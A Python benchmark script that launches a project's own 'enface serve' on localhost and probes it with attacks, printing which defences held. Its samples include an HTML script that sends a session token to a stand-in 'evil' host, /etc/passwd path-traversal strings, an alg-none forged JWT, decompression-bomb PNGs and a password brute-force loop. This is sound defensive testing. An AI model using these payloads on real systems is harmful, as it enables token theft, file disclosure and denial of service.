"""Attacks on a real `enface serve`: which held and which broke (issue 12, the endpoint's side).

    python bench/security_probe.py            # about a minute on 2 cores; prints a table

Builds a lake in a temporary folder by scanning a folder an attacker could have filled (synthetic photos, a
symlink ``holiday.jpg`` to a file holding a secret outside the folder, an HTML page as ``page.html`` and as
``page.jpg``; after the scan one photo changes and one becomes a FIFO), adds users and tokens, starts
`enface serve` on a free port and tries each attack over HTTP. The server's memory is read from
/proc/PID/status (VmRSS, VmHWM). Figures and verdicts, never assertions.
"""

from __future__ import annotations

import io
import os
import secrets
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

import httpx  # noqa: E402
import jwt  # noqa: E402
from PIL import Image  # noqa: E402

from enface_batch import auth  # noqa: E402
from enface_batch.lake.schemas import DEFAULT_GROUP_ID  # noqa: E402
from enface_batch.lake.store import Lake  # noqa: E402
from enface_batch.ops import catalog  # noqa: E402

EMAIL, PASSWORD = "analyst@example.com", "correct horse"
HTML = b"<!doctype html><script>fetch('//evil/?'+sessionStorage.getItem('enface-token'))</script>"
ROWS: list[tuple[str, str, str, bool]] = []


def case(name: str, expected: str, observed: str, held: bool) -> None:
    ROWS.append((name, expected, observed, held))
    print(f"{'held ' if held else 'BROKEN'}  {name}: {observed}", flush=True)


def jpeg(seed: int) -> bytes:
    arr = np.random.default_rng(seed).integers(0, 255, (64, 96, 3), dtype=np.uint8)
    buf = io.BytesIO()
    Image.fromarray(arr).save(buf, "JPEG")
    return buf.getvalue()


def big_png(side: int) -> bytes:
    comp = zlib.compressobj(9)
    idat = b"".join(comp.compress(b"\x00" * (side + 1)) for _ in range(side)) + comp.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def mem(pid: int) -> dict[str, int]:
    out = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(("VmRSS", "VmHWM")):
            k, v = line.split(":")
            out[k] = int(v.split()[0]) // 1024  # MiB
    return out


def build(root: Path) -> tuple[Lake, str, dict[str, str], dict]:
    from enface_batch.analyze import Analyzer
    from enface_batch.models import load_pack
    from enface_batch.scan import scan_source

    (root / "secret.txt").write_text("ENFACE_JWT_SECRET=" + secrets.token_hex(16))
    photos = root / "photos"
    photos.mkdir()
    for i, name in enumerate(["plain.jpg", "changes.jpg", "becomes-fifo.jpg"]):
        (photos / name).write_bytes(jpeg(i))
    (photos / "page.html").write_bytes(HTML)
    (photos / "page.jpg").write_bytes(HTML + b" ")
    (photos / "holiday.jpg").symlink_to(root / "secret.txt")
    lake = Lake(root / "lake")
    source = catalog.create_source(lake, "photos", DEFAULT_GROUP_ID, uri=str(photos))["source_id"]
    scan_source(lake, Analyzer(load_pack()), source)
    shas = {os.path.basename(r["uri"]): r["sha256"] for r in lake.read("files", columns=["uri", "sha256"]).to_pylist()}
    (photos / "changes.jpg").write_bytes(jpeg(9))
    (photos / "becomes-fifo.jpg").unlink()
    os.mkfifo(photos / "becomes-fifo.jpg")
    user = auth.add_user(lake, EMAIL, PASSWORD)
    return lake, source, shas, user


def serve(lake: Lake, secret: str, log: Path) -> tuple[subprocess.Popen, str]:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "ENFACE_JWT_SECRET": secret, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    proc = subprocess.Popen(
        [sys.executable, "-m", "enface_batch", "serve", "--lake", lake.uri, "--port", str(port)],
        stdout=log.open("w"),
        stderr=subprocess.STDOUT,
        env=env,
    )
    base = f"http://127.0.0.1:{port}"
    for _ in range(600):
        try:
            if httpx.get(base + "/health", timeout=2).status_code == 200:
                return proc, base
        except httpx.TransportError:
            time.sleep(0.2)
    raise RuntimeError(log.read_text())


def cli(lake: Lake, *args: str, password: str | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    if password:
        env["ENFACE_PASSWORD"] = password
    return subprocess.run(
        [sys.executable, "-m", "enface_batch", *args, "--lake", lake.uri], capture_output=True, text=True, env=env
    )


def probe_images(http: httpx.Client, h: dict, shas: dict, secret_text: str, root: Path, source: str) -> None:
    def get(name: str) -> httpx.Response:
        return http.get(f"/browse/images/{shas[name]}", headers=h, timeout=15)

    r = get("holiday.jpg")
    case("symlink holiday.jpg -> secret file", "secret never served", f"{r.status_code}", secret_text not in r.text)
    for name in ("page.html", "page.jpg"):
        r = get(name)
        ctype = r.headers.get("content-type", "")
        case(
            f"HTML scanned as {name}",
            "never text/html, never the page",
            f"{r.status_code} {ctype or '-'}",
            "html" not in ctype and b"<script" not in r.content,
        )
    r = get("changes.jpg")
    case("file changed after the scan", "410, not the new bytes", f"{r.status_code}", r.status_code == 410)
    t0 = time.time()
    try:
        r = get("becomes-fifo.jpg")
        obs, ok = f"{r.status_code} in {time.time() - t0:.1f} s", r.status_code == 404
    except httpx.TimeoutException:
        obs, ok = "hung (client timeout 15 s)", False
    case("scanned photo replaced by a FIFO", "answered at once, not served", obs, ok)
    r = get("plain.jpg")
    case(
        "a real photo",
        "200 image/jpeg, nosniff, inline sha name",
        f"{r.status_code} {r.headers.get('content-type')} {r.headers.get('content-disposition')}",
        r.status_code == 200 and r.headers.get("x-content-type-options") == "nosniff",
    )
    r = http.get(f"/browse/sources/{source}/images", headers=h)
    case(
        "absolute server paths in browse",
        "paths relative to the source",
        "absent" if str(root) not in r.text else "present",
        str(root) not in r.text,
    )


def probe_headers(http: httpx.Client, h: dict) -> None:
    page = http.get("/ui")
    csp = page.headers.get("content-security-policy", "")
    case(
        "/ui CSP, X-Frame-Options",
        "CSP without inline script, DENY",
        f"csp={'yes' if csp else 'no'} xfo={page.headers.get('x-frame-options')}",
        bool(csp) and "unsafe-inline" not in csp and page.headers.get("x-frame-options") == "DENY",
    )
    r = http.get("/person/lists", headers=h)
    case(
        "nosniff on JSON",
        "nosniff",
        str(r.headers.get("x-content-type-options")),
        r.headers.get("x-content-type-options") == "nosniff",
    )


def probe_tokens(http: httpx.Client, lake: Lake, user: dict, secret: str) -> None:
    uid = user["user_id"]
    now = datetime.now(UTC)
    none_alg = jwt.encode({"sub": uid, "iss": "enface-batch", "exp": now + timedelta(days=1)}, None, algorithm="none")
    other = jwt.encode({"sub": uid, "iss": "enface-batch", "exp": now + timedelta(days=1)}, "x" * 48, "HS256")
    expired = jwt.encode({"sub": uid, "iss": "enface-batch", "exp": now - timedelta(minutes=1)}, secret, "HS256")
    for name, tok in (("alg none JWT", none_alg), ("JWT of another secret", other), ("expired JWT", expired)):
        r = http.get("/person/lists", headers={"token": tok})
        case(name, "401", str(r.status_code), r.status_code == 401)

    tok = auth.create_token(lake, uid, expires="never")["token"]
    out = cli(lake, "token", "revoke", tok["token_id"])
    r = http.get("/person/lists", params={"token": tok["token"]})
    case("revoked permanent token", "401", f"cli rc={out.returncode}, then {r.status_code}", r.status_code == 401)

    short = http.post("/user/login", json={"email": EMAIL, "password": PASSWORD, "valid_days": 1}).json()["token"]
    r = http.post("/token/create", json={"expires": "never"}, headers={"token": short})
    made = r.json().get("token", {})
    case(
        "1-day JWT mints a never-expiring token",
        "capped at the JWT's expiry",
        f"{r.status_code} expires={made.get('expires')}",
        made.get("expires") not in (None, "never"),
    )

    email = "leaver@example.com"
    auth.add_user(lake, email, PASSWORD)
    j = http.post("/user/login", json={"email": email, "password": PASSWORD}).json()["token"]
    t = auth.create_token(lake, auth.find_user(lake, email)["user_id"], expires="never")["token"]["token"]
    out = cli(lake, "user", "remove", email)
    a = http.get("/person/lists", headers={"token": j}).status_code
    b = http.get("/person/lists", params={"token": t}).status_code
    case("removed user's JWT and token", "401, 401", f"cli rc={out.returncode}, then {a}, {b}", a == b == 401)

    email = "rotate@example.com"
    auth.add_user(lake, email, PASSWORD)
    j = http.post("/user/login", json={"email": email, "password": PASSWORD}).json()["token"]
    out = cli(lake, "user", "passwd", email, password="a new password")
    a = http.get("/person/lists", headers={"token": j}).status_code
    case("JWT after a password change", "401", f"cli rc={out.returncode}, then {a}", a == 401)


def probe_paths(http: httpx.Client, h: dict) -> None:
    for path in (
        "/browse/images/..%2F..%2F..%2Fetc%2Fpasswd",
        "/browse/images/../../etc/passwd",
        "/browse/sources/..%2F..%2Fetc/images",
        "/browse/lists/%2e%2e%2f%2e%2e/persons",
    ):
        r = http.get(path, headers=h)
        case(
            f"path traversal {path}",
            "400/404, no file",
            str(r.status_code),
            r.status_code in (400, 404, 405) and "root:" not in r.text,
        )
    codes = {p: http.post(p, headers=h, json={}).status_code for p in ("/person/create", "/person/list/create")}
    codes["/person/delete"] = http.delete("/person/delete", headers=h).status_code
    case("write routes", "405", " ".join(f"{k}={v}" for k, v in codes.items()), set(codes.values()) == {405})


def probe_bodies(http: httpx.Client, pid: int, token: str) -> None:
    blob = np.random.default_rng(0).bytes(10 * 1024 * 1024 - 4096)
    before = mem(pid)["VmRSS"]

    def upload(_: int) -> int:
        with httpx.Client(base_url=http.base_url, timeout=60) as c:
            return c.post("/detect", files={"images": ("a.jpg", blob)}).status_code

    threads, codes = [], []
    for i in range(20):
        t = threading.Thread(target=lambda i=i: codes.append(upload(i)))
        t.start()
        threads.append(t)
    for t in threads:
        t.join()
    after = mem(pid)
    case(
        "20 unauthenticated 10 MB uploads",
        "401 before reading; RSS flat",
        f"{sorted(set(codes))}, RSS {before}->{after['VmRSS']} MiB (+{after['VmRSS'] - before})",
        set(codes) == {401} and after["VmRSS"] - before < 40,
    )

    sent = [0]

    def body():
        for _ in range(200):  # 200 MB, chunked
            sent[0] += 1 << 20
            yield b"\0" * (1 << 20)

    try:
        r = http.post(
            "/detect",
            content=body(),
            params={"token": token},
            headers={"content-type": "multipart/form-data; boundary=x"},
        )
        obs = f"{r.status_code} after the client sent {sent[0] >> 20} MB"
    except httpx.TransportError as exc:
        obs = f"{type(exc).__name__} after {sent[0] >> 20} MB"
    case("chunked 200 MB body, limit 10 MB", "stop reading near the limit", obs, sent[0] < 40 << 20)


def probe_pixels(http: httpx.Client, pid: int, h: dict) -> None:
    png = big_png(12_000)  # 144 Mpx grey, ~140 KB
    t0 = time.time()
    r = http.post("/detect", files=[("images", (f"{i}.png", png)) for i in range(3)], headers=h, timeout=300)
    case(
        "3 PNGs of 144 Mpx in one request",
        "400 before decoding",
        f"{r.status_code} in {time.time() - t0:.1f} s",
        r.status_code == 400 and "PIXEL" in r.text,
    )
    http.post("/detect", files={"images": ("warm.jpg", jpeg(5))}, headers=h, timeout=300)  # models loaded
    base = mem(pid)["VmRSS"]
    codes: list[int] = []

    def one() -> None:
        with httpx.Client(base_url=http.base_url, timeout=300) as c:
            codes.append(c.post("/detect", files={"images": ("big.png", png)}, headers=h).status_code)

    threads = [threading.Thread(target=one) for _ in range(2)]
    t0 = time.time()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    m = mem(pid)
    case(
        "2 requests with a 144 Mpx PNG each, at once",
        "served, bounded memory",
        f"{codes} in {time.time() - t0:.1f} s, RSS {base} MiB before, peak {m['VmHWM']} MiB",
        all(c in (200, 400) for c in codes) and m["VmHWM"] < 8 * 1024,
    )


def probe_login(http: httpx.Client) -> None:
    codes, t0 = [], time.time()
    for _ in range(200):
        codes.append(http.post("/user/login", json={"email": EMAIL, "password": "wrong password"}).status_code)
    dt = time.time() - t0
    r = http.post("/user/login", json={"email": EMAIL, "password": PASSWORD})
    case(
        "200 wrong passwords, one account",
        "slowed or locked (429)",
        f"{codes.count(403)} checked (403), {codes.count(429)} refused (429) in {dt:.1f} s; right password then "
        f"{r.status_code} Retry-After {r.headers.get('retry-after')}",
        codes.count(429) > 150,
    )


def main() -> None:
    secret = secrets.token_urlsafe(48)
    with tempfile.TemporaryDirectory(prefix="enface-probe-") as tmp:
        root = Path(tmp)
        lake, source, shas, user = build(root)
        secret_text = (root / "secret.txt").read_text()
        proc, base = serve(lake, secret, root / "serve.log")
        try:
            http = httpx.Client(base_url=base, timeout=60)
            jwt_token = http.post("/user/login", json={"email": EMAIL, "password": PASSWORD}).json()["token"]
            h = {"token": jwt_token}
            token = auth.create_token(lake, user["user_id"], valid_days=2)["token"]["token"]
            probe_images(http, h, shas, secret_text, root, source)
            probe_headers(http, h)
            probe_tokens(http, lake, user, secret)
            probe_paths(http, h)
            probe_bodies(http, proc.pid, token)
            probe_pixels(http, proc.pid, h)
            probe_login(http)  # last: it locks the account and the client address for logins
        finally:
            proc.terminate()
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                proc.kill()
    width = max(len(r[0]) for r in ROWS)
    print(f"\n{'case':{width}}  verdict  observed")
    for name, _expected, observed, held in ROWS:
        print(f"{name:{width}}  {'held' if held else 'BROKEN':7}  {observed}")
    print(f"\n{len(ROWS)} cases tried, {sum(r[3] for r in ROWS)} held, {sum(not r[3] for r in ROWS)} broken")


if __name__ == "__main__":
    main()
